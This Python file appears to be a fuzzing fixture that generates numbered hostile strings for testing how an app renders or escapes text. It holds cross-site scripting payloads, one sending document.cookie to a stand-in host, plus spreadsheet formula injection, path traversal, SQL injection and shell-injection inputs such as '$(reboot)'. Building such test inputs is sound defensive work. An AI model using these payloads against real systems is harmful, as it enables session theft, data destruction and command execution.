"""Names that try to be something else: several hundred, made from parts, each with a number to tell it by."""

SCRIPTS = ["window.hit=1", "alert(1)", "fetch('http://outside.invalid/'+document.cookie)"]
WAYS = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<<script>{}//<</script>", "<img src=x onerror=\"{}\">",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<a href=\"javascript:{}\">x</a>", "<style>@import'http://outside.invalid/{}';</style>",
    "\"><script>{}</script>", "'><img src=x onerror={}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", "<!--><script>{}</script>-->", "<math><mi xlink:href=\"javascript:{}\">x</mi></math>",
    "<video><source onerror=\"{}\">", "<object data=\"javascript:{}\">", "<marquee onstart={}>x</marquee>",
    "javascript:{}", "data:text/html,<script>{}</script>", "[x](javascript:{})", "![x](http://outside.invalid/{})",
    "<img src=http://outside.invalid/{}>", "<link rel=stylesheet href=http://outside.invalid/{}>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "`{}`", "=HYPERLINK(\"http://outside.invalid/{}\")", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "＜script＞{}＜/script＞",
]  # fmt: skip
MARKS = [
    "**b**", "__u__", "*i*", "~~s~~", "`c`", "# h", "## h", "> q", "- l", "1. l", "1) l", "+ l", "---", "***", "===", "| a | b |",
    "[l](http://outside.invalid)", "![i](http://outside.invalid/i.png)", "<http://outside.invalid>", "http://outside.invalid/auto",
    "www.outside.invalid", "a@outside.invalid", ":red[x]", ":material/home:", ":smile:", ":blue-background[x]", ":small[x]",
    "$a$", "$$a$$", "\\(a\\)", "5*3*2", "a_b_c", "2^3", "x~y~z", "<br>", "&amp;", "&nbsp;", "&copy;", "&#x3c;", "[ ] t", "[x] t",
    "[^1]", "[a]: http://outside.invalid", "```py", "    code", "\\*", "\\", "a  b", "~", "!", "<", ">", "&", "'", '"', ":", "::", ":x[", "]",
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "../../etc/passwd", "C:\\x\\..\\y", "file:///etc/passwd", "NULL", "None", "nan", "undefined", "true",
    "0x1F", "1e999", "Ω≈ç√∫", "田中さん", "مرحبا", "שלום", "👩‍👩‍👧‍👦 👍🏽", "Z̗a̖l̘g̙o̚", "ﬁ", "İ", "ß", "Robert'); DROP TABLE observation;--", "' OR 1=1 --",
    "%s %n %d", "{0} {name}", "{{x}}", "<%= 1 %>", "$(reboot)", "`reboot`", "|reboot", ";reboot",
]  # fmt: skip
WRAPS = ["{}", "a {} b", "({})", "x{}"]

NAUGHTY = [f"{i} {text}" for i, text in enumerate(
    [way.format(script) for way in WAYS for script in SCRIPTS] + [wrap.replace("{}", mark) for mark in MARKS for wrap in WRAPS]
)]  # fmt: skip
NAUGHTY += [
    text.split(" ", 1)[1] for text in NAUGHTY
]  # and each without its number: some marks count at the start only
